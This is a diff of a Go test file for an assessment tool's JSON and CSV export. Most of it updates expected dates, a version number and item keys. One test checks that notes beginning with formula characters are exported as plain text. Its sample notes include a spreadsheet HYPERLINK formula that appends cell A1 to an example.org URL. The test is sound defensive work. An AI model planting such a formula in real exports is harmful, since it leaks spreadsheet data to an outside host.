@@ -49,7 +49,7 @@ func TestJSONExportIsReadBackWhole(t *testing.T) {
 	}
 	a, read := result.Assessment, whole.Assessments[0]
 	if read.ID != a.ID || read.Questionnaire != "first-team" || read.Scope != "first-team" ||
-		read.PeriodStart != "2025-12-02" || read.PeriodEnd != "2026-03-03" || !read.FinishedAt.Equal(a.FinishedAt) ||
+		read.PeriodStart != "2025-12-03" || read.PeriodEnd != "2026-03-03" || !read.FinishedAt.Equal(a.FinishedAt) ||
 		read.Noise != a.Noise || read.Constants != a.Constants || !reflect.DeepEqual(read.Scale, a.Scale) {
 		t.Errorf("the head is %+v", read)
 	}
@@ -158,8 +158,8 @@ func TestCSVExportIsReadBackByRow(t *testing.T) {
 	}
 	first := rows[1]
 	for name, want := range map[string]string{
-		"assessment": result.Assessment.ID, "name": "", "finished": "2026-03-03T09:30:00Z", "period_start": "2025-12-02", "period_end": "2026-03-03",
-		"questionnaire": "first-team", "version": "1", "scope": "first-team", "craft": "software", "form": "full",
+		"assessment": result.Assessment.ID, "name": "", "finished": "2026-03-03T09:30:00Z", "period_start": "2025-12-03", "period_end": "2026-03-03",
+		"questionnaire": "first-team", "version": "2", "scope": "first-team", "craft": "software", "form": "full",
 		"competency": "design", "item": hardToUndo, "text": result.Competencies[0].Section.Items[0].Text,
 		"state": "answered", "level": "4", "note": "“a, b”; \"c\"\nsecond line",
 	} {
@@ -177,23 +177,23 @@ func TestCSVExportIsReadBackByRow(t *testing.T) {
 // A note that a spreadsheet would run as a formula reaches it as a text.
 func TestCSVExportHoldsNoFormula(t *testing.T) {
 	notes := map[string]string{
-		hardToUndo:                                 `=HYPERLINK("http://example.org/?"&A1;"read me")`,
-		assumption:                                 "+1 for the queue",
-		"design.first-team.unheard-objection":      "-1, they said",
-		"tradeoffs.link.way-back":                  "@everyone",
-		"tradeoffs.first-team.earlier-case":        "＝1+1",
-		"tradeoffs.first-team.customer-side":       "\t\r\n=1+1", // the blanks are trimmed on saving
-		"systems.link.past-the-list":               "the part = the whole",
-		"systems.first-team.as-it-runs":            "'quoted'",
-		"systems.first-team.unexplained-link":      "über alles",
-		"roadmap.first-team.what-it-pushes-out":    "3-4 weeks",
-		"roadmap.link.weeks-before-dates":          "",
-		"debt.first-team.hidden-workarounds":       "first\n=second", // a line of a cell is no cell
-		"debt.first-team.event-that-puts-it-first": "＠",
+		hardToUndo:                              `=HYPERLINK("http://example.org/?"&A1;"read me")`,
+		assumption:                              "+1 for the queue",
+		"design.first-team.unheard-objection":   "-1, they said",
+		"tradeoffs.link.choose-again":           "@everyone",
+		"tradeoffs.first-team.earlier-case":     "＝1+1",
+		"tradeoffs.first-team.who-would-notice": "\t\r\n=1+1", // the blanks are trimmed on saving
+		"systems.link.past-the-list":            "the part = the whole",
+		"systems.first-team.check-as-it-runs":   "'quoted'",
+		"systems.first-team.our-stack-now":      "über alles",
+		"roadmap.first-team.unknowns-first":     "3-4 weeks",
+		"roadmap.link.weeks-people-have":        "",
+		"debt.first-team.worked-around":         "first\n=second", // a line of a cell is no cell
+		"debt.first-team.when-it-comes-first":   "＠",
 	}
 	harmless := map[string]bool{
-		"systems.link.past-the-list": true, "systems.first-team.as-it-runs": true, "systems.first-team.unexplained-link": true,
-		"roadmap.first-team.what-it-pushes-out": true, "roadmap.link.weeks-before-dates": true, "debt.first-team.hidden-workarounds": true,
+		"systems.link.past-the-list": true, "systems.first-team.check-as-it-runs": true, "systems.first-team.our-stack-now": true,
+		"roadmap.first-team.unknowns-first": true, "roadmap.link.weeks-people-have": true, "debt.first-team.worked-around": true,
 	}
 	_, export := candid(t, notes)
 	rows := export.Rows()
